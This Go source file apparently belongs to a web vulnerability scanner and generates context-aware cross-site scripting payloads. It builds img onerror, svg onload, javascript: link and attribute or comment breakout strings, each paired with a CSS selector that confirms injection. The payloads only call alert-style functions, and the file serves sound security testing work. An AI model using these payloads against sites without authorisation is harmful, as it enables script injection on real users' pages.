// Package xss generates context-aware Cross-Site Scripting payloads.
//
// Each payload is paired with the CSS selector of the element it creates
// when reflected verbatim, so a script can confirm execution context by
// searching the response instead of matching strings.
package xss

import (
	"strings"

	"github.com/dlclark/regexp2"

	"github.com/lotus-scan/lotus/pkg/htmlutil"
	"github.com/lotus-scan/lotus/pkg/regexcache"
)

const (
	placeholderFunc = "$JS_FUNC$"
	placeholderCmd  = "$JS_CMD$"

	commentBreakout = "--> --> -->"
)

// Payload pairs an injection string with the selector that proves it landed.
type Payload struct {
	Search  string `json:"search"`
	Payload string `json:"payload"`
}

// Config lists the building blocks payloads are assembled from.
type Config struct {
	// Tags are element templates. A template with $JS_FUNC$ and $JS_CMD$ is
	// expanded once per function and value.
	Tags []string

	// Attrs are event handler attributes used for attribute contexts.
	Attrs []string

	Funcs  []string
	Values []string
}

// DefaultConfig returns the built-in payload set.
func DefaultConfig() Config {
	return Config{
		Tags: []string{
			`<img src=x onerror=$JS_FUNC$($JS_CMD$)>`,
			`<svg onload=$JS_FUNC$($JS_CMD$)>`,
			`<details open ontoggle=$JS_FUNC$($JS_CMD$)>`,
			`<input autofocus onfocus=$JS_FUNC$($JS_CMD$)>`,
			`<a href=javascript:$JS_FUNC$($JS_CMD$)>lotus</a>`,
			`<lotusxss></lotusxss>`,
		},
		Attrs:  []string{"onfocus", "onmouseover", "onpointerenter"},
		Funcs:  []string{"alert", "confirm", "prompt"},
		Values: []string{"1"},
	}
}

// paddings separate an injected attribute from what precedes it.
var paddings = []string{" ", "/", "\t", "\n", "/ "}

// Generator builds payload sets. It is safe for concurrent use.
type Generator struct {
	cfg Config
}

// New returns a Generator. Empty fields in cfg fall back to the defaults.
func New(cfg Config) *Generator {
	d := DefaultConfig()
	if len(cfg.Tags) == 0 {
		cfg.Tags = d.Tags
	}
	if len(cfg.Attrs) == 0 {
		cfg.Attrs = d.Attrs
	}
	if len(cfg.Funcs) == 0 {
		cfg.Funcs = d.Funcs
	}
	if len(cfg.Values) == 0 {
		cfg.Values = d.Values
	}
	return &Generator{cfg: cfg}
}

// Generate returns payloads suited to where seed was reflected in body.
func (g *Generator) Generate(body string, kind htmlutil.Kind, seed string) []Payload {
	var out []Payload
	switch kind {
	case htmlutil.Text:
		out = g.tags("")
	case htmlutil.Comment:
		out = g.tags(commentBreakout)
	case htmlutil.TagName, htmlutil.AttrName:
		out = g.attributes()
	case htmlutil.AttrValue:
		out = g.attrValue(body, seed)
	}
	return dedupe(out)
}

// tags expands every template; prefix is prepended to the payload only.
func (g *Generator) tags(prefix string) []Payload {
	var out []Payload
	for _, tmpl := range g.cfg.Tags {
		for _, frag := range g.expand(tmpl) {
			sel, err := htmlutil.Selector(frag)
			if err != nil {
				continue
			}
			out = append(out, Payload{Search: sel, Payload: prefix + frag})
		}
	}
	return out
}

func (g *Generator) expand(tmpl string) []string {
	if !strings.Contains(tmpl, placeholderFunc) || !strings.Contains(tmpl, placeholderCmd) {
		return []string{tmpl}
	}
	var out []string
	for _, fn := range g.cfg.Funcs {
		for _, v := range g.cfg.Values {
			r := strings.NewReplacer(placeholderFunc, fn, placeholderCmd, v)
			out = append(out, r.Replace(tmpl))
		}
	}
	return out
}

// handler is one attribute assignment, e.g. onfocus=alert(1).
type handler struct {
	attr  string
	value string
}

func (h handler) String() string {
	s := h.attr + "=" + h.value
	if h.attr == "onfocus" {
		s = "autofocus " + s
	}
	return s
}

func (h handler) selector() string { return htmlutil.AttrSelector(h.attr, h.value) }

// handlers yields every attr x func x value combination in both call forms.
func (g *Generator) handlers() []handler {
	var out []handler
	for _, attr := range g.cfg.Attrs {
		for _, fn := range g.cfg.Funcs {
			for _, v := range g.cfg.Values {
				out = append(out,
					handler{attr: attr, value: fn + "(" + v + ")"},
					handler{attr: attr, value: fn + "`" + v + "`"},
				)
			}
		}
	}
	return out
}

// attributes covers reflections inside a tag or attribute name. The
// trailing space stops whatever followed the reflection from gluing onto
// the handler value.
func (g *Generator) attributes() []Payload {
	var out []Payload
	for _, h := range g.handlers() {
		for _, pad := range paddings {
			out = append(out, Payload{
				Search:  h.selector(),
				Payload: "lotus" + pad + h.String() + " ",
			})
		}
	}
	return out
}

// attrValue closes the surrounding quote when there is one. Quoted values
// also get a tag breakout.
func (g *Generator) attrValue(body, seed string) []Payload {
	quote := detectQuote(body, seed)

	var out []Payload
	for _, h := range g.handlers() {
		if quote == "" {
			out = append(out, Payload{
				Search:  h.selector(),
				Payload: " x " + h.String() + " x=",
			})
			continue
		}
		out = append(out, Payload{
			Search:  h.selector(),
			Payload: quote + " " + h.String() + " x=" + quote,
		})
	}
	if quote != "" {
		out = append(out, g.tags(quote+">")...)
	}
	return out
}

// detectQuote reports the quote character enclosing the first reflection of
// seed inside an attribute value, or "" for an unquoted value.
func detectQuote(body, seed string) string {
	if seed == "" {
		return ""
	}
	re, err := regexcache.Get(`=\s*(["'])[^"'<>]*?` + regexp2.Escape(seed))
	if err != nil {
		return ""
	}
	m, err := re.FindStringMatch(body)
	if err != nil || m == nil {
		return ""
	}
	return m.GroupByNumber(1).String()
}

func dedupe(in []Payload) []Payload {
	seen := make(map[string]bool, len(in))
	out := in[:0]
	for _, p := range in {
		if seen[p.Payload] {
			continue
		}
		seen[p.Payload] = true
		out = append(out, p)
	}
	return out
}
